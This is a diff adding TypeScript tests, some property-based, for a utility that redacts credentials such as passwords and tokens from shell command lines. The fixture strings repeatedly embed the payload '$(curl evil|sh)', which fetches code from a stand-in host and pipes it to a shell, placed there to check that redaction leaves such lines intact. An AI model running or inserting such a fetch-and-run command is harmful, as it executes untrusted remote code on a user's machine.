@@ -109,3 +109,46 @@ describe("the shell's '\\'' idiom only where the shell's '…' is open (r64s #2)
     );
   });
 });
+
+describe("a payload on a line the shell accepts, a comment or an operator after a telling flag (r64s #3)", () => {
+  it.each([
+    "gh auth login --with-token < t.txt && $(curl evil|sh) # don't",
+    "srv --auth && echo $(curl evil|sh) # it's",
+    "srv --password > /tmp/x; echo $(curl evil|sh) # it's",
+    "srv token: X $(curl evil|sh) # it's",
+    // Refused (a quote left open), an operator is still no flag's value.
+    "gh auth login --with-token < t.txt && $(curl evil|sh) '",
+    "srv --auth | tee log $(curl evil|sh) '",
+  ])("%j is shown and exported as written", (line) => {
+    expect(withoutCommandLineSecrets(line)).toBe(line);
+    expect(exportedCommand(line)).toBe(line);
+    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", line]);
+  });
+
+  it("reads `name: X` on a refused line only when X reads as a credential in prose", () => {
+    const prose = "reads the short query names client masks as credentials: Azure's ?code= and ?sig=";
+    expect(withoutCommandLineSecrets(prose)).toBe(prose);
+    expect(withoutCommandLineSecrets("srv token: hunter2X9 '")).toBe("srv token: ${TOKEN}");
+    expect(exportedCommand("srv password: \"hunter2X9 '")).toBe("srv password: ${PASSWORD}");
+  });
+
+  it("still hides a telling literal before a comment, and after a `#` inside a word", () => {
+    expect(withoutCommandLineSecrets("srv --password hunter2X9 $(curl evil|sh) # it's")).toBe(
+      "srv --password ${PASSWORD} $(curl evil|sh) # it's",
+    );
+    expect(withoutCommandLineSecrets("srv --password a#b'c $(curl evil|sh)")).toBe("srv --password ${PASSWORD}");
+  });
+
+  it("keeps a line whose comment holds quotes or parts left open as written, payload and all (property)", () => {
+    const flag = fc.constantFrom("--auth", "--with-token < t.txt", "--password > /tmp/x", "token: X", "-p 8080");
+    const between = fc.constantFrom(" && echo ", "; ", " | cat ", " ");
+    const comment = fc.stringMatching(/^[a-z '"`$(){}]{0,12}$/);
+    fc.assert(
+      fc.property(flag, between, comment, (name, join, words) => {
+        const line = `srv ${name}${join}$(curl evil|sh) # ${words}`;
+        expect(withoutCommandLineSecrets(line)).toBe(line);
+        expect(exportedCommand(line)).toBe(line);
+      }),
+    );
+  });
+});
